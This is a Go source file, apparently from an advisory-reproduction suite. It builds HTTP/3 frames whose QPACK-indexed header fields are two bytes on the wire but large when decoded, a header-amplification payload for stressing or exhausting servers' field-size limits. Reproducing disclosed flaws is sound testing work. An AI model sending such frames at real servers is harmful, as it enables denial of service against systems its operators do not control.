// Package h3 writes the frames of HTTP/3 (RFC 9114) that an attack needs, with fields
// that are small on the wire and large when they are decoded: QPACK (RFC 9204) names a
// field of its static table in two bytes.
package h3

import "github.com/matrixrun/matrixrun/matrix/suites/advisories/repro/wire"

// The types of frames (RFC 9114, section 7.2).
const (
	frameData     = 0x00
	frameHeaders  = 0x01
	frameSettings = 0x04
)

// Indexes of the static table (RFC 9204, appendix A).
const (
	indexAuthority = 0
	indexPath      = 1
	indexPost      = 20
	indexHTTPS     = 23
	indexOK        = 25
	indexPolicy    = 85 // content-security-policy, with a value of 53 bytes
)

// PolicySize is the size of one field of Large when it is decoded (RFC 9114, section
// 4.2.2), and EncodedSize its size on the wire.
const (
	PolicySize  = len("content-security-policy") + len("script-src 'none'; object-src 'none'; base-uri 'none'") + 32
	EncodedSize = 2
)

// Control returns what opens the control stream: its type, and no settings.
func Control() []byte { return frame([]byte{0x00}, frameSettings, nil) }

// Request returns the headers of a request with a number of large fields.
func Request(path string, large int) []byte {
	return frame(nil, frameHeaders, Large(join(
		start(), indexed(indexPost), indexed(indexHTTPS), named(indexAuthority, "localhost"), named(indexPath, path),
	), large))
}

// Response returns the headers of a response with a number of large fields.
func Response(large int) []byte {
	return frame(nil, frameHeaders, Large(join(start(), indexed(indexOK)), large))
}

// Trailers returns trailers with a number of large fields.
func Trailers(large int) []byte { return frame(nil, frameHeaders, Large(start(), large)) }

// Data returns a part of a body.
func Data(b []byte) []byte { return frame(nil, frameData, b) }

// Large appends a number of large fields.
func Large(b []byte, n int) []byte {
	for i := 0; i < n; i++ {
		b = append(b, indexed(indexPolicy)...)
	}
	return b
}

// frame appends a frame.
func frame(b []byte, kind uint64, payload []byte) []byte {
	return append(wire.AppendVarint(wire.AppendVarint(b, kind), uint64(len(payload))), payload...)
}

// start returns what a field section begins with, without a dynamic table.
func start() []byte { return []byte{0, 0} }

// indexed returns a field of the static table with its value (RFC 9204, section 4.5.2).
func indexed(i int) []byte {
	if i < 63 {
		return []byte{0xc0 | byte(i)}
	}
	return []byte{0xff, byte(i - 63)}
}

// named returns a field whose name is one of the first 15 of the static table (RFC 9204,
// section 4.5.4), and whose value has less than 127 bytes.
func named(i int, value string) []byte {
	return append([]byte{0x50 | byte(i), byte(len(value))}, value...)
}

// join returns its parts, one after the other.
func join(parts ...[]byte) (b []byte) {
	for _, p := range parts {
		b = append(b, p...)
	}
	return b
}
